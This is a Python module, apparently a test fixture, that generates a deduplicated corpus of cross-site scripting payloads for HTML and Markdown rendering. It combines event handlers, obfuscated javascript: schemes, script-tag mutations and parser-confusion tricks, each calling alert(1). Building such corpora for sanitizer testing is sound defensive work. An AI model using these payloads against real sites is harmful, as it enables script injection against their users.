"""Attacks by script, from a grammar: where code can stand, what starts it, how it is hidden.

Each calls alert(), which the browser's test counts. None is copied from a list; the forms follow
the HTML Standard (event handler content attributes §8.1.8.2, javascript: URLs §7.4.2.3) and what
Markdown makes of its own marks.
"""

import itertools

CALL = "alert(1)"
_TAGS = "img svg body video audio iframe object embed details input select marquee a b p div style link math form button table".split()
_EVENTS = """onerror onload onclick onmouseover onfocus ontoggle onstart onbegin onanimationstart
ontransitionend onpointerenter onbeforeinput oncut onkeydown onwheel onscroll onresize onplay
onloadstart onpageshow onhashchange onmessage onselectstart onauxclick oncontextmenu""".split()
_QUOTES = ("{}", '"{}"', "'{}'", "`{}`")
_GAPS = (" ", "/", "\t", "\n", "\x0c", " / ")
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:",
    "&#106;avascript:", "&#x6A;avascript:", "javascript&colon;", "javascript&#58;", "java&Tab;script:",
    "java&NewLine;script:", "javascript://%0a", "data:text/html,<script>{}</script>//",
    "vbscript:", "feed:javascript:", "view-source:javascript:",
)  # fmt: skip
_LINKS = (
    '<a href="{}">x</a>', "<a href={}>x</a>", '<area href="{}">', '<form action="{}"><input type=submit>',
    '<button formaction="{}">x</button>', '<iframe src="{}"></iframe>', '<object data="{}"></object>',
    '<embed src="{}">', '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>', '<base href="{}">',
    '<math href="{}">x</math>', '<img src="{}">', '<video poster="{}">', '<link rel=stylesheet href="{}">',
    "[x]({})", "![x]({})", "[x][a]\n\n[a]: {}", "<{}>", '[x]({} "t")', "[![x](a.jpg)]({})",
)  # fmt: skip
_SCRIPTS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script/x>{}</script>", "<script\n>{}</script\n>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<svg><script>{}</script></svg>", "<svg><script>{}",
    "<script type=module>{}</script>", "<script src=data:,{}></script>", "<math><script>{}</script></math>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><script>{}</script>'>",
    "<xmp><p title='</xmp><script>{}</script>'>", "<title><p title='</title><script>{}</script>'>",
    "<textarea><p title='</textarea><script>{}</script>'>", "<style><p title='</style><script>{}</script>'>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<object data='data:text/html,<script>{}</script>'>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to={}>",
    "<svg><foreignObject><script>{}</script></foreignObject></svg>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<math><mtext><table><mglyph><style><img title='</style><img src=x onerror={}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<!--><script>{}</script>-->", "<!--a--!><script>{}</script>", "<![CDATA[><script>{}</script>]]>",
    "<?x><script>{}</script>?>", "<x-y is=z><script>{}</script></x-y>",
)  # fmt: skip
_WRAPPINGS = (
    "{}", "> {}", "- {}", "| a |\n|---|\n| {} |", "# {}", "**{}**", "a[^1]\n\n[^1]: {}", "a\n:   {}",
    "<div markdown=1>\n{}\n</div>", "*[x]: {}\n\nx", "kata\n{}\nkata", '"><{}', "'>{}", "</p>{}", "-->{}",
    "]]>{}", "</textarea>{}", "</script>{}", "</style>{}", "</title>{}",
)  # fmt: skip
_CALLS = (
    CALL,
    "alert`1`",
    "window['al'+'ert'](1)",
    "top.alert(1)",
    "&#97;lert(1)",
    "confirm(1)",
    "prompt(1)",
    "(alert)(1)",
)


def payloads() -> list[str]:
    """Return every attack once, in a fixed order."""
    made = [
        *(f"<{tag}{gap}src=x {event}={quote.format(call)}>"
          for (tag, event), gap, quote, call in zip(
              itertools.product(_TAGS, _EVENTS), itertools.cycle(_GAPS), itertools.cycle(_QUOTES),
              itertools.cycle(_CALLS))),
        *(link.replace("{}", scheme.replace("{}", call) + call)
          for (link, scheme), call in zip(itertools.product(_LINKS, _SCHEMES), itertools.cycle(_CALLS))),
        *(wrapping.replace("{}", script.replace("{}", call))
          for (script, wrapping), call in zip(itertools.product(_SCRIPTS, _WRAPPINGS), itertools.cycle(_CALLS))),
        *(wrapping.replace("{}", f"<{tag} {event}={CALL} tabindex=1 autofocus>x")
          for (wrapping, tag), event in zip(itertools.product(_WRAPPINGS, _TAGS), itertools.cycle(_EVENTS))),
        *(wrapping.replace("{}", link.replace("{}", scheme.replace("{}", CALL) + CALL))
          for (wrapping, link), scheme in zip(itertools.product(_WRAPPINGS, _LINKS), itertools.cycle(_SCHEMES))),
    ]  # fmt: skip
    return list(dict.fromkeys(made))
